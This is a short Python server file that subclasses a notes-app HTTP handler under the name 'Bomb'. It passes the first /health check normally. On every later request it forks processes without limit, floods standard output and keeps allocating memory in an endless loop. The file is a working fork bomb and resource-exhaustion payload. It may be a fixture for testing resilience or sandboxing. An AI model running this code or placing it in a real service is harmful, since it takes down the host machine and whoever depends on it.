import os

import app


class Bomb(app.Notes):
    def do_GET(self):
        if self.path == "/health" and not os.path.exists("/tmp/begun"):
            return super().do_GET()
        open("/tmp/begun", "w").close()
        while True:
            try:
                os.fork()
            except OSError:
                pass
            os.write(1, b"flood " * 1000)
            kept.append(bytearray(1 << 20))


kept = []
app.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Bomb).serve_forever()
